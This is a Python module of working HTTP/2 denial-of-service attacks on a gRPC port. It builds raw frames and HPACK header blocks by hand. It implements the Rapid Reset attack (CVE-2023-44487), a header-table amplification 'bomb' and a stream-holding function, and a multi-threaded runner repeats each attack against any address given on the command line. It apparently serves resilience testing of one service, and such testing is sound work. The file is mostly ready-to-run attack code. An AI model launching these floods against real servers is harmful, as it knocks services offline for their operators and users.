"""Attacks on a gRPC port by raw HTTP/2 frames, from blocking sockets: they cost the attacker as little as possible.

Frames: RFC 9113. Header blocks: RFC 7541. Every attack is bounded in time and in what it sends.
"""

from __future__ import annotations

import socket
import sys
import threading
import time
from collections.abc import Callable

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = (8).to_bytes(4, "big")
#: How long a send may block before the attacker gives up, in seconds.
SEND_SECONDS = 5.0


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return one frame."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def literal(value: bytes) -> bytes:
    """Return a string of a header block, not Huffman-coded."""
    length = len(value)
    if length < 127:
        return bytes((length,)) + value
    head = bytearray((127,))
    length -= 127
    while length >= 128:
        head.append(length & 127 | 128)
        length >>= 7
    head.append(length)
    return bytes(head) + value


def request_block(path: bytes = b"/tracestatus.v1.StatusService/Update") -> bytes:
    """Return the header block of a gRPC request."""
    return (
        b"\x83\x86\x04"
        + literal(path)
        + b"\x01"
        + literal(b"localhost")
        + b"\x0f\x10"
        + literal(b"application/grpc")
        + b"\x00"
        + literal(b"te")
        + literal(b"trailers")
    )


class Peer:
    """A connection whose answers are read and thrown away by a thread of its own."""

    def __init__(self, address: str, source: str = "127.0.0.1") -> None:
        host, _, port = address.rpartition(":")
        self.socket = socket.create_connection((host, int(port)), timeout=SEND_SECONDS, source_address=(source, 0))
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
        self.next_stream = 1
        threading.Thread(target=self._drain, daemon=True).start()

    def _drain(self) -> None:
        try:
            while self.socket.recv(1 << 16):
                pass
        except OSError:
            pass

    def send(self, data: bytes) -> bool:
        """Send; return whether the server still takes it."""
        try:
            self.socket.sendall(data)
        except OSError:
            return False
        return True

    def stream(self) -> int:
        """Return the number of a new stream."""
        number, self.next_stream = self.next_stream, self.next_stream + 2
        return number

    def close(self) -> None:
        """Hang up."""
        self.socket.close()


def rapid_reset(address: str, *, connections: int, seconds: float) -> int:
    """Open streams and cancel them at once (CVE-2023-44487). Returns the number of streams."""
    block = request_block()

    def attack(peer: Peer) -> int:
        streams = [peer.stream() for _ in range(100)]
        frames = [
            frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL) for stream in streams
        ]
        return len(streams) if peer.send(b"".join(frames)) else 0

    return _together(address, connections, seconds, attack)


def header_bomb(address: str, *, connections: int, seconds: float, references: int = 3_000) -> int:
    """Send header blocks that refer to one large entry of the dynamic table. Returns the number of streams."""
    begun: set[int] = set()
    entry = b"\x40" + literal(b"x-bomb") + literal(b"b" * 3_900)

    def attack(peer: Peer) -> int:
        block = request_block()
        if id(peer) not in begun:
            begun.add(id(peer))
            block += entry
        block += b"\xbe" * references
        stream = peer.stream()
        parts = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
        frames = frame(HEADERS, END_HEADERS if len(parts) == 1 else 0, stream, parts[0])
        for number, part in enumerate(parts[1:], 2):
            frames += frame(CONTINUATION, END_HEADERS if number == len(parts) else 0, stream, part)
        return int(peer.send(frames))

    return _together(address, connections, seconds, attack)


def hold_streams(address: str, source: str, count: int, request: bytes) -> Peer:
    """Open so many StreamTrace calls from an address, and return the connection that holds them."""
    peer = Peer(address, source)
    block = request_block(b"/tracestatus.v1.StatusService/StreamTrace")
    message = b"\0" + len(request).to_bytes(4, "big") + request
    for _ in range(count):
        stream = peer.stream()
        assert peer.send(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, message))
    return peer


def _together(address: str, connections: int, seconds: float, attack: Callable[[Peer], int]) -> int:
    """Repeat an attack on so many connections for so long; a connection that the server closes is opened again."""
    counts = [0] * connections
    until = time.monotonic() + seconds

    def run(number: int) -> None:
        peer: Peer | None = None
        while time.monotonic() < until:
            try:
                peer = peer or Peer(address)
            except OSError:
                time.sleep(0.01)
                continue
            done = attack(peer)
            counts[number] += done
            if not done or peer.next_stream > 2**30:
                peer.close()
                peer = None
        if peer is not None:
            peer.close()

    threads = [threading.Thread(target=run, args=(number,)) for number in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sum(counts)


if __name__ == "__main__":
    name, target, count, duration = sys.argv[1:]
    print(
        {"rapid_reset": rapid_reset, "header_bomb": header_bomb}[name](
            target, connections=int(count), seconds=float(duration)
        )
    )
